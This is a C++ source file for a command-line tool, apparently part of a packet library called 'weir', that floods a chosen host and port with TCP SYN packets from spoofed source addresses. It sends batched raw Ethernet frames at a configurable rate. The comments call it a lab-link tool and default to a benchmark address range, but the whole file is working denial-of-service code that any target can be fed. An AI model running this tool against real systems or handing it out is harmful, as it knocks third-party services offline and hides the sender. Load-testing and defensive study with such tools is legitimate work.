// SPDX-License-Identifier: MIT
// A SYN flood from spoofed sources, for a lab's link: every frame has a source address and port of its own, drawn from
// a prefix. Prints what was sent as JSON.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <stdexcept>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

#include "weir/base/ip_address.h"
#include "weir/wire/ethernet.h"
#include "weir/wire/ip_packet.h"
#include "weir/wire/tcp.h"

namespace {

using Clock = std::chrono::steady_clock;
using weir::IpAddress;
using weir::MacAddress;

constexpr std::size_t kBatch = 64;
constexpr std::size_t kFrame = 14 + 20 + 40;

struct Options {
  std::string device = "veth0";
  std::string mac;
  std::string to;
  std::string sources = "198.18.0.0";  // RFC 2544's, a /15
  std::uint16_t port = 80;
  double rate = 0;  // SYNs a second; 0: as many as go
  double seconds = 2;
};

[[noreturn]] void fail(const char* what) { throw std::system_error(errno, std::generic_category(), what); }

MacAddress parse_mac(const std::string& text) {
  std::array<unsigned, 6> b{};
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6)
    throw std::runtime_error("not a MAC: " + text);
  MacAddress mac;
  std::array<std::byte, 6> bytes;
  for (std::size_t i = 0; i < 6; ++i) bytes[i] = static_cast<std::byte>(b[i]);
  return MacAddress::load(bytes.data());
}

class Flood {
 public:
  explicit Flood(const Options& options) : options_(options) {
    fd_ = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (fd_ < 0) fail("socket");
    int on = 1;
    ::setsockopt(fd_, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    sockaddr_ll at{};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_IP);
    at.sll_ifindex = static_cast<int>(::if_nametoindex(options.device.c_str()));
    if (at.sll_ifindex == 0) fail("if_nametoindex");
    if (::bind(fd_, reinterpret_cast<sockaddr*>(&at), sizeof at) != 0) fail("bind");
    ifreq request{};
    std::strncpy(request.ifr_name, options.device.c_str(), sizeof request.ifr_name - 1);
    if (::ioctl(fd_, SIOCGIFHWADDR, &request) != 0) fail("SIOCGIFHWADDR");
    ours_ = MacAddress::load(reinterpret_cast<const std::byte*>(request.ifr_hwaddr.sa_data));
    theirs_ = parse_mac(options.mac);
    to_ = *IpAddress::parse(options.to);
    IpAddress sources = *IpAddress::parse(options.sources);
    base_ = weir::load_be<std::uint32_t>(sources.data() + 12);
    for (std::size_t i = 0; i < kBatch; ++i) {
      vectors_[i] = {frames_[i].data(), kFrame};
      messages_[i].msg_hdr.msg_iov = &vectors_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }
  ~Flood() { ::close(fd_); }
  Flood(const Flood&) = delete;
  Flood& operator=(const Flood&) = delete;

  void run() {
    auto started = Clock::now();
    double elapsed = 0;
    while (elapsed < options_.seconds) {
      if (options_.rate == 0 || static_cast<double>(sent_) < options_.rate * elapsed) {
        for (auto& frame : frames_) write(frame);
        int n = ::sendmmsg(fd_, messages_.data(), kBatch, 0);
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
        sent_ += n > 0 ? static_cast<std::uint64_t>(n) : 0;
      } else {
        std::this_thread::sleep_for(std::chrono::microseconds(50));
      }
      elapsed = std::chrono::duration<double>(Clock::now() - started).count();
    }
    std::printf("{\"sent\": %llu, \"seconds\": %.3f}\n", static_cast<unsigned long long>(sent_), elapsed);
  }

 private:
  std::uint64_t random() {
    random_ ^= random_ << 13;
    random_ ^= random_ >> 7;
    random_ ^= random_ << 17;
    return random_;
  }
  // A SYN as a kernel's: mss, sackOK, timestamps, window scale.
  void write(std::array<std::byte, kFrame>& frame) {
    std::uint64_t r = random();
    std::array<std::byte, 4> source;
    weir::store_be(source.data(), base_ + (static_cast<std::uint32_t>(r) & 0x1ffff));
    weir::wire::TcpHeader tcp;
    tcp.src_port = static_cast<std::uint16_t>(1'024 + (r >> 20) % 60'000);
    tcp.dst_port = options_.port;
    tcp.seq = static_cast<std::uint32_t>(r >> 32);
    tcp.flags = weir::wire::kSyn;
    tcp.window = weir::wire::WireWindow(64'240);
    tcp.options.mss = 1'460;
    tcp.options.sack_permitted = true;
    tcp.options.timestamps = weir::wire::TcpTimestamps{static_cast<std::uint32_t>(r >> 13), 0};
    tcp.options.window_scale = 7;
    weir::wire::IpHeader ip;
    ip.src = IpAddress::v4(source.data());
    ip.dst = to_;
    ip.id = static_cast<std::uint16_t>(r);
    ip.payload_length = 40;
    weir::Bytes bytes(frame);
    weir::wire::EthernetHeader{theirs_, ours_, weir::wire::EtherType::ipv4}.write(bytes);
    ip.write(bytes.subspan(14));
    tcp.write(bytes.subspan(34), ip.src, ip.dst);
  }

  Options options_;
  int fd_ = -1;
  MacAddress ours_;
  MacAddress theirs_;
  IpAddress to_;
  std::uint32_t base_ = 0;
  std::uint64_t random_ = 0x9e37'79b9'7f4a'7c15;
  std::uint64_t sent_ = 0;
  std::array<std::array<std::byte, kFrame>, kBatch> frames_{};
  std::array<iovec, kBatch> vectors_{};
  std::array<mmsghdr, kBatch> messages_{};
};

}  // namespace

int main(int argc, char** argv) {
  Options options;
  CLI::App app("A SYN flood from spoofed sources, as JSON: what was sent. Needs CAP_NET_RAW; for a lab's link alone.");
  app.add_option("mac", options.mac, "of the station that is flooded")->required();
  app.add_option("address", options.to, "its IPv4 address")->required();
  app.add_option("port", options.port, "its port")->required();
  app.add_option("--device", options.device, "to send from")->capture_default_str();
  app.add_option("--sources", options.sources, "the spoofed sources' /15")->capture_default_str();
  app.add_option("--rate", options.rate, "SYNs a second; 0: as many as go")->capture_default_str();
  app.add_option("--seconds", options.seconds)->capture_default_str();
  CLI11_PARSE(app, argc, argv);
  try {
    Flood(options).run();
  } catch (const std::exception& e) {
    std::fprintf(stderr, "weir_syn_flood: %s\n", e.what());
    return 1;
  }
  return 0;
}
